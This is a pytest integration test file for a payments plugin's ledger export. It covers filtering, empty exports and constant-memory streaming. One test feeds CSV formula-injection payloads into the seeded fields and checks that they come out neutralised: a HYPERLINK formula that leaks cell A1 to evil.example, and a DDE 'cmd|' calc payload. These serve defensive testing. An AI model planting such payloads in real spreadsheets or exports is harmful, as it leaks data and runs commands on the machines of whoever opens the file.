"""Issue #29: the ledger export on the real databases (SQLite, and PostgreSQL with
TEST_DATABASE=postgresql): what goes in which period, channel and shop; formula injection; and an
export of 100,000 rows in constant memory."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import subprocess
import sys
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from saleor_coinpayments.payments.books.export import COLUMNS
from saleor_coinpayments.payments.books.ledger import LedgerFilter
from saleor_coinpayments.store.db import Database
from tests.integration.books import seed
from tests.integration.books.export_memory import NOVEMBER, export
from tests.integration.books.seed import MONTH_START

REPO_ROOT = Path(__file__).resolve().parents[3]


async def export_text(db: Database, where: LedgerFilter, fmt: str = "csv") -> str:
    return b"".join([chunk async for chunk in export(db, where, fmt)]).decode("utf-8")


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def run(coro: Any) -> Any:
    return asyncio.run(coro)


def test_cells_typed_by_outsiders_come_out_neutralised(database_url: str) -> None:
    async def scenario() -> str:
        db = Database(database_url)
        try:
            shop = await seed.shop(db)
            payment = seed.payment_row(shop, 1)
            at = MONTH_START + timedelta(days=3)
            evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
            coin = seed.coin_row(payment, at, refund_email=evil + "@buyer.example")
            refund = seed.refund_row(
                payment, at + timedelta(hours=2), note=evil, reason="+1+cmd|' /C calc'!A0", buyer_email="@SUM(1+1)"
            )
            await seed.write(db, [payment], [coin], [refund])
            return await export_text(db, LedgerFilter(NOVEMBER))
        finally:
            await db.dispose()

    rows = parse(run(scenario()))
    paid, payout, refund = rows[:3]
    assert paid["kind"] == "paid"
    assert paid["buyer_email"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")@buyer.example'
    assert refund["kind"] == "refund"
    assert refund["note"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert refund["reason"] == "'+1+cmd|' /C calc'!A0"
    assert refund["buyer_email"] == "'@SUM(1+1)"
    assert payout["kind"] == "payout"
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_rows_of_the_period_channel_and_shop_only_in_time_order(database_url: str) -> None:
    async def scenario() -> tuple[str, str, str, str]:
        db = Database(database_url)
        try:
            shop, other_shop = await seed.shop(db), await seed.shop(db)
            at = MONTH_START + timedelta(days=10)
            web = seed.payment_row(shop, 1)
            pos = seed.payment_row(shop, 2, channel="pos")
            foreign = seed.payment_row(other_shop, 3)
            october = seed.payment_row(shop, 4)
            coins = [
                seed.coin_row(web, at),
                seed.coin_row(pos, at + timedelta(hours=1)),
                seed.coin_row(foreign, at),
                seed.coin_row(october, MONTH_START - timedelta(seconds=1), payout_completed_at=None),
            ]
            await seed.write(db, [web, pos, foreign, october], coins, [])
            everything = await export_text(db, LedgerFilter(NOVEMBER))
            mine = await export_text(db, LedgerFilter(NOVEMBER, installation_id=shop.installation_id))
            web_only = await export_text(db, LedgerFilter(NOVEMBER, shop.installation_id, "default-channel"))
            lines = await export_text(db, LedgerFilter(NOVEMBER, shop.installation_id, "pos"), fmt="json")
            return everything, mine, web_only, lines
        finally:
            await db.dispose()

    everything, mine, web_only, lines = run(scenario())
    assert len([r for r in parse(everything) if not r["kind"].startswith("total:")]) == 6
    rows = [r for r in parse(mine) if not r["kind"].startswith("total:")]
    assert [(r["kind"], r["channel"]) for r in rows] == [
        ("paid", "default-channel"),
        ("payout", "default-channel"),
        ("paid", "pos"),
        ("payout", "pos"),
    ]
    assert [r["time"] for r in rows] == sorted(r["time"] for r in rows)
    assert {r["channel"] for r in parse(web_only) if r["channel"]} == {"default-channel"}
    objects = [json.loads(line) for line in lines.splitlines()]
    assert [o["type"] for o in objects] == ["movement", "movement", "totals"]
    assert objects[0]["fiat_amount"] == "20.00"
    assert objects[0]["buyer_tx_ids"] == ["e" * 64]
    assert {"kind": "net", "currency": "USD", "amount": "20.00", "fees": "0"} in objects[-1]["fiat"]


ROWS = 100_000
# Streaming holds a few chunks and a batch of rows: its resident memory grew 6.5 MB on SQLite, 5.5 MB
# on PostgreSQL. An exporter that kept the CSV would hold all of its 33 MB: one that kept each chunk
# it sent grew 39-44 MB, one that wrote the whole CSV before the first chunk 177 MB, and a query
# read whole (not streamed) 330-360 MB. The bound sits between them.
MAX_GROWTH = 16 * 1024 * 1024


def test_exporting_100000_rows_streams_in_constant_memory(database_url: str) -> None:
    """Peak resident memory of a fresh process while it makes the whole CSV and consumes it chunk
    by chunk, over what it held before the export started (export_memory.py: why and how)."""

    async def seed_rows() -> str:
        db = Database(database_url)
        try:
            shop = await seed.shop(db)
            await seed.many_paid(db, shop, ROWS // 2)
            return shop.installation_id
        finally:
            await db.dispose()

    installation_id = run(seed_rows())
    command = [sys.executable, "-m", "tests.integration.books.export_memory", database_url, installation_id]
    done = subprocess.run(command, capture_output=True, text=True, cwd=REPO_ROOT, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    growth, size, lines = report["growth"], report["size"], report["lines"]
    last_rows = csv.DictReader(io.StringIO(report["tail"].split("\r\n", 1)[1], newline=""), COLUMNS)
    net = [r for r in last_rows if r["kind"] == "total:net" and r["fiat_currency"] == "USD"]
    print(f"ledger export of {ROWS} rows: resident memory peaked {growth / 2**20:.1f} MB over the start")
    assert lines == 1 + ROWS + 2 * 3  # header, movements, totals (paid, payout, net) per USD and per LTCT
    assert Decimal(net[0]["fiat_amount"]) == Decimal("20.00") * (ROWS // 2)
    assert size > MAX_GROWTH * 3 // 2  # so that holding the whole output could not pass
    assert growth < MAX_GROWTH, f"export grew resident memory by {growth / 2**20:.1f} MB"


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_of_an_empty_period_is_its_header_and_nothing_else(database_url: str, fmt: str) -> None:
    async def scenario() -> str:
        db = Database(database_url)
        try:
            return await export_text(db, LedgerFilter(NOVEMBER), fmt)
        finally:
            await db.dispose()

    text = run(scenario())
    if fmt == "csv":
        assert text == ",".join(COLUMNS) + "\r\n"
    else:
        assert json.loads(text) == {"type": "totals", "rows": 0, "fiat": [], "coin": []}
